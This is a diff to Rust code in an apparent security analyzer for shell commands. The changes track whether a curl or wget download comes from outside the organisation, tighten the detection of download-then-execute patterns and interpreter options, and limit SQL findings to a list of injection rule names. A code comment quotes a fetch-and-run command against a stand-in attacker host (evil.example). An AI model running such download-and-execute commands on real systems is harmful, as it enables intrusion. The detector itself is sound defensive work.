@@ -2475,26 +2475,40 @@ fn judge(cmds: &[Cmd], out: &mut Out<'_>) {
     // The farther feeders of each command's pipeline ([`feeders_far`]).
     let far = far_feeders(cmds);
     // Files the program downloads, with how risky their source is.
-    let mut downloads: Vec<(String, Confidence)> = Vec::new();
+    // (Each with whether its source is outside the organisation,
+    // [`outside_source`].)
+    let mut downloads: Vec<(String, Confidence, bool)> = Vec::new();
     for c in cmds.iter().filter(|c| matches!(c.name(), "curl" | "wget")) {
-        let risk = url_risk(url_of(c).as_deref());
+        let url = url_of(c);
+        let risk = url_risk(url.as_deref());
+        let outside = url.as_deref().is_some_and(outside_source);
         let mut prev = "";
         let mut named = false;
+        // (An output option, alone or ending a cluster of flags: `-o`,
+        // `-Lo`, `-sSLo`, wget's `-qO`.)
+        let output = |p: &str| {
+            matches!(p, "--output" | "--output-document")
+                || p.len() >= 2
+                    && p.starts_with('-')
+                    && !p.starts_with("--")
+                    && p.bytes().skip(1).all(|b| b.is_ascii_alphabetic())
+                    && p.ends_with(['o', 'O'])
+        };
         for a in c.arg_texts() {
-            if matches!(prev, "-o" | "-O" | "--output" | "--output-document") {
-                downloads.push((a.to_owned(), risk));
+            if output(prev) {
+                downloads.push((a.to_owned(), risk, outside));
                 named = true;
             }
             prev = a;
         }
         for (op, t) in &c.redirs {
-            if op.starts_with('>') {
-                downloads.push((t.clone(), risk));
+            if op.starts_with('>') && !t.starts_with("/dev/") {
+                downloads.push((t.clone(), risk, outside));
                 named = true;
             }
         }
-        if !named && let Some(u) = url_of(c) {
-            downloads.push((base(u.split(['?', '#']).next().unwrap_or("")).to_owned(), risk));
+        if !named && let Some(u) = &url {
+            downloads.push((base(u.split(['?', '#']).next().unwrap_or("")).to_owned(), risk, outside));
         }
     }
     // Variables filled with a download (`x=$(curl -s URL)`).
@@ -2503,20 +2517,26 @@ fn judge(cmds: &[Cmd], out: &mut Out<'_>) {
     // `curl ... | tee x.sh`, `| cat > x.sh`, `| dd of=x.sh`, or from a
     // variable filled with one, `echo "$x" > x.sh`.)
     for c in cmds.iter().filter(|c| c.pipe_prev.is_some() || !c.redirs.is_empty()) {
-        let fed = feeders(cmds, c).into_iter().find(|f| DOWNLOADERS.contains(&f.name())).map(|d| url_risk(url_of(d).as_deref()));
+        let fed = feeders(cmds, c).into_iter().find(|f| DOWNLOADERS.contains(&f.name())).map(|d| {
+            let url = url_of(d);
+            (url_risk(url.as_deref()), url.as_deref().is_some_and(outside_source))
+        });
         let echoed = || {
             matches!(c.name(), "echo" | "printf")
                 .then(|| c.arg_texts().filter_map(expansion_name).filter_map(|k| fetched.get(k).copied()).max())
                 .flatten()
+                .map(|r| (r, false))
         };
-        let Some(risk) = fed.or_else(echoed) else { continue };
+        let Some((risk, outside)) = fed.or_else(echoed) else { continue };
+        let kept = |t: &str| !t.starts_with('-') && !t.starts_with("/dev/");
         if fed.is_some() && c.name() == "tee" {
-            downloads.extend(c.arg_texts().filter(|a| !a.starts_with('-')).map(|a| (a.to_owned(), risk)));
+            downloads.extend(c.arg_texts().filter(|a| kept(a)).map(|a| (a.to_owned(), risk, outside)));
         }
         if fed.is_some() && c.name() == "dd" {
-            downloads.extend(c.arg_texts().filter_map(|a| a.strip_prefix("of=")).map(|a| (a.to_owned(), risk)));
+            downloads
+                .extend(c.arg_texts().filter_map(|a| a.strip_prefix("of=")).filter(|a| kept(a)).map(|a| (a.to_owned(), risk, outside)));
         }
-        downloads.extend(c.redirs.iter().filter(|(op, _)| op.starts_with('>')).map(|(_, t)| (t.clone(), risk)));
+        downloads.extend(c.redirs.iter().filter(|(op, t)| op.starts_with('>') && kept(t)).map(|(_, t)| (t.clone(), risk, outside)));
     }
     // Repositories cloned from a risky source, by their directory.
     let clones = clones(cmds);
@@ -6793,7 +6813,7 @@ fn is_decoder_name(n: &str) -> bool {
 }
 
 /// Running a file the same program downloaded.
-fn dropper(cmds: &[Cmd], c: &Cmd, n: &str, downloads: &[(String, Confidence)], out: &mut Out<'_>) {
+fn dropper(cmds: &[Cmd], c: &Cmd, n: &str, downloads: &[(String, Confidence, bool)], out: &mut Out<'_>) {
     // (A file sourced, `. venv/bin/activate`, is the one at that path: a
     // download of another `activate` elsewhere is not it.)
     let sourced = matches!(n, "." | "source");
@@ -6804,22 +6824,20 @@ fn dropper(cmds: &[Cmd], c: &Cmd, n: &str, downloads: &[(String, Confidence)], o
         let tmp = ["/tmp/", "/dev/shm/", "/var/tmp/", "/run/user/"].iter().any(|p| path.starts_with(p));
         let b = base(&path);
         // (A command name without a slash is looked up on the PATH, not the
-        // file of that name here: `curl ... | tee test; test -s test`.
-        // Unless the download went to a directory on it: `curl -o
-        // /usr/local/bin/upd ...; upd`.)
+        // file of that name here: `curl ... | tee test; test -s test`. A
+        // program downloaded by that name from outside the organisation,
+        // an address or an attacker's host, is run all the same wherever
+        // it went (`curl -Lo /usr/local/bin/x https://evil.example/x && x`);
+        // a tool installed from a vendor or a mirror is how tools are
+        // installed.)
         if named && !path.contains('/') {
-            let on_path = |t: &str| {
-                ["/usr/local/bin/", "/usr/bin/", "/bin/", "/usr/local/sbin/", "/usr/sbin/", "/sbin/", "~/.local/bin/", "~/bin/"]
-                    .iter()
-                    .any(|d| t.strip_prefix(d).is_some_and(|f| f == path))
-            };
-            if let Some((_, risk)) = downloads.iter().find(|(t, _)| on_path(t)) {
-                out.push(*risk, "shell.download-exec", &c.at);
+            if downloads.iter().any(|(t, _, outside)| *outside && base(t) == path) {
+                out.push(Confidence::High, "shell.download-exec", &c.at);
                 return;
             }
             continue;
         }
-        for (target, risk) in downloads {
+        for (target, risk, _) in downloads {
             if !target.is_empty()
                 && (path == *target || !sourced && base(target) == b && (path.starts_with("./") || path.starts_with('/') || !named))
             {
@@ -6843,12 +6861,46 @@ fn dropper(cmds: &[Cmd], c: &Cmd, n: &str, downloads: &[(String, Confidence)], o
 /// (`/./` is read as `/`.)
 fn script_paths(cmds: &[Cmd], c: &Cmd, n: &str) -> Vec<(String, bool)> {
     let mut paths: Vec<(String, bool)> = Vec::new();
-    if is_interp(n) {
-        // (A shell's `-e` is errexit: `sh -e x.sh` runs the file.)
-        if c.arg_texts().any(|a| is_dash_c(a) || !is_shell(n) && matches!(a, "-e" | "-E" | "-r" | "--eval")) {
-            return paths;
+    if is_interp(n) && !matches!(n, "." | "source") {
+        // The options before the script, read as this interpreter reads
+        // them: one that gives code runs no file (`bash -c '...'`, `python3
+        // -c`, `perl -e`, `node --eval`, `php -r`); one that takes a value
+        // skips it (`sh -o errexit x.sh`, `ruby -r json x.rb`). What follows
+        // the script is its own arguments (`sh /tmp/x.sh -c conf`). (A
+        // shell's `-e` is errexit, python's `-E` ignores the environment.)
+        let (code, valued): (&[&str], &[&str]) = if is_shell(n) || matches!(n, "pwsh" | "powershell" | "powershell.exe") {
+            (&["-Command", "-command", "-EncodedCommand", "-enc"], &["-o", "+o", "-O", "+O", "-File"])
+        } else if n.starts_with("python") {
+            (&["-c", "-m"], &["-W", "-X", "-Q"])
+        } else if n.starts_with("perl") {
+            (&["-e", "-E"], &["-I", "-M", "-m"])
+        } else {
+            match n {
+                "ruby" => (&["-e"], &["-r", "-I", "-C"]),
+                "node" | "nodejs" => (&["-e", "--eval", "-p", "--print"], &["-r", "--require", "--import", "-C"]),
+                "php" => (&["-r"], &["-c", "-d", "-z"]),
+                "lua" => (&["-e"], &["-l"]),
+                _ => (&["-e"], &[]),
+            }
+        };
+        let shell_code = is_shell(n) || matches!(n, "pwsh" | "powershell" | "powershell.exe");
+        let mut args = c.arg_texts();
+        while let Some(a) = args.next() {
+            if a == "--" {
+                paths.extend(args.next().map(|a| (a.to_owned(), false)));
+                break;
+            }
+            if !a.starts_with('-') && !a.starts_with('+') {
+                paths.push((a.to_owned(), false));
+                break;
+            }
+            if code.contains(&a) || shell_code && is_dash_c(a) || a.starts_with("--eval=") {
+                return Vec::new();
+            }
+            if valued.contains(&a) {
+                args.next();
+            }
         }
-        paths.extend(c.arg_texts().find(|a| !a.starts_with('-')).map(|a| (a.to_owned(), false)));
         if reads_stdin(c) {
             paths.extend(c.redirs.iter().filter(|(op, _)| *op == "<").map(|(_, t)| (t.clone(), false)));
             if let Some(f) = c.pipe_prev.and_then(|p| cmds.get(p))
@@ -6868,6 +6920,31 @@ fn script_paths(cmds: &[Cmd], c: &Cmd, n: &str) -> Vec<(String, bool)> {
         }
     }
     paths
+}
+
+/// Whether `url` is fetched from outside the organisation: an address
+/// outside the private, shared (CGNAT), benchmarking, loopback and
+/// link-local ranges (the documentation ranges included), as written, as
+/// one number or embedded in a wildcard-DNS name, a public IPv6 address,
+/// or a host named for an attack or a paste service.
+fn outside_source(url: &str) -> bool {
+    let rest = url.split_once("://").map_or(url, |(_, r)| r);
+    let host = rest.split(['/', '?', '#']).next().unwrap_or("");
+    let host = host_without_port(host.rsplit('@').next().unwrap_or(host)).to_ascii_lowercase();
+    let ip = match url::Host::parse(&host) {
+        Ok(url::Host::Ipv4(ip)) => Some(ip),
+        _ => super::ssrf::wildcard_dns(&host).flatten(),
+    };
+    let outside = ip.is_some_and(|ip| {
+        let [a, b, ..] = ip.octets();
+        !(ip.is_loopback()
+            || ip.is_private()
+            || ip.is_link_local()
+            || ip.is_unspecified()
+            || a == 100 && (b & 0xc0) == 64
+            || a == 198 && (b & 0xfe) == 18)
+    });
+    outside || ip.is_none() && public_address(Some(url)) || suspicious_host(&host)
 }
 
 /// A clone source written in scp's form (`git@host:org/repo.git`) as the
@@ -6934,18 +7011,7 @@ fn clones(cmds: &[Cmd]) -> Vec<String> {
         }
         let Some(source) = positional.first() else { continue };
         let url = clone_url(source);
-        let host = url.split_once("://").map_or("", |(_, r)| r).split(['/', '?', '#']).next().unwrap_or("");
-        let host = host_without_port(host.rsplit('@').next().unwrap_or(host));
-        // (An address outside the private, loopback and link-local ranges,
-        // the documentation ranges included, is outside the organisation:
-        // as written, as one number, or embedded in a wildcard-DNS name.)
-        let host = host.to_ascii_lowercase();
-        let ip = match url::Host::parse(&host) {
-            Ok(url::Host::Ipv4(ip)) => Some(ip),
-            _ => super::ssrf::wildcard_dns(&host).flatten(),
-        };
-        let outside = ip.is_some_and(|ip| !(ip.is_loopback() || ip.is_private() || ip.is_link_local() || ip.is_unspecified()));
-        if !(outside || public_address(Some(&url)) || suspicious_host(&host)) {
+        if !outside_source(&url) {
             continue;
         }
         let dir = positional
@@ -7047,12 +7113,12 @@ fn expansion_name(word: &str) -> Option<&str> {
 }
 
 /// A command that runs a variable filled with a download ([`fetched_vars`]):
-/// `eval "$x"`, `$x`, `bash -c "$x"`, `php -r "$x"`, `ssh host "$x"`, `echo
+/// `eval "$x"`, `$x`, `bash -c "$x"`, `php -r "$x"`, `echo
 /// "$x" | sh`, `sh <<< "$x"`, a here-document of `$x`, `. <(echo "$x")`.
 /// The riskiest such source.
 fn runs_fetched(cmds: &[Cmd], c: &Cmd, n: &str, fetched: &std::collections::HashMap<String, Confidence>) -> Option<Confidence> {
     let mut code: Vec<&str> = Vec::new();
-    if n == "eval" || n == "ssh" {
+    if n == "eval" {
         code.extend(c.arg_texts());
     } else if is_interp(n) {
         let mut prev = "";
@@ -7174,10 +7240,19 @@ fn client_sql<'c>(cmds: &'c [Cmd], n: &str, c: &'c Cmd) -> Vec<&'c str> {
 /// [`client_sql`]'s SQL judged as SQL by the SQL analyzer, and the client's
 /// own escapes to a shell (psql's `\!`, sqlite3's `.shell` and `.system`)
 /// judged as command lines; the findings found at the command.
+///
+/// The SQL is the operator's own, written for the client: several
+/// statements, a destructive one, a read of `pg_authid`, a grant, a
+/// `COPY` or `pg_sleep` are what a DBA runs, and what the policy
+/// authorizes or not. Only the shapes of a value broken out of, or of
+/// SQL disguised, are findings here ([`BREAK_OUTS`]): they say that a
+/// value was pasted into the command line.
 fn client_sql_hits(sql: &str, at: &Range<usize>, out: &mut Out<'_>) {
     let subject = Subject { text: sql, context: Context::Sql, field: "query", tool: "", decoded: false };
     let before = out.hits.len();
-    super::sql::analyze(&subject, out.hits);
+    let mut found = Vec::new();
+    super::sql::analyze(&subject, &mut found);
+    out.hits.extend(found.into_iter().filter(|h| BREAK_OUTS.contains(&h.rule)));
     for line in sql.lines().take(64) {
         let l = line.trim_start();
         let shell = l.strip_prefix("\\!").or_else(|| l.strip_prefix(".shell ")).or_else(|| l.strip_prefix(".system "));
@@ -7190,6 +7265,27 @@ fn client_sql_hits(sql: &str, at: &Range<usize>, out: &mut Out<'_>) {
         h.at = at.start.min(len)..at.end.min(len).max(at.start.min(len));
     }
 }
+
+/// The SQL analyzer's rules that mark a value broken out of, or SQL
+/// disguised: what [`client_sql_hits`] reports of a client's SQL.
+const BREAK_OUTS: &[&str] = &[
+    "sql.tautology",
+    "sql.union-select",
+    "sql.union-probe",
+    "sql.comment-terminator",
+    "sql.commented-remainder",
+    "sql.set-injection",
+    "sql.row-injection",
+    "sql.break-out",
+    "sql.boolean-blind",
+    "sql.error-based",
+    "sql.column-probe",
+    "sql.order-by-injection",
+    "sql.comment-split-keyword",
+    "sql.split-keyword-exec",
+    "sql.versioned-comment",
+    "sql.comment-obfuscation",
+];
 
 /// Logs an intruder erases: authentication, login records, audit, shell history.
 fn security_log(l: &str) -> bool {
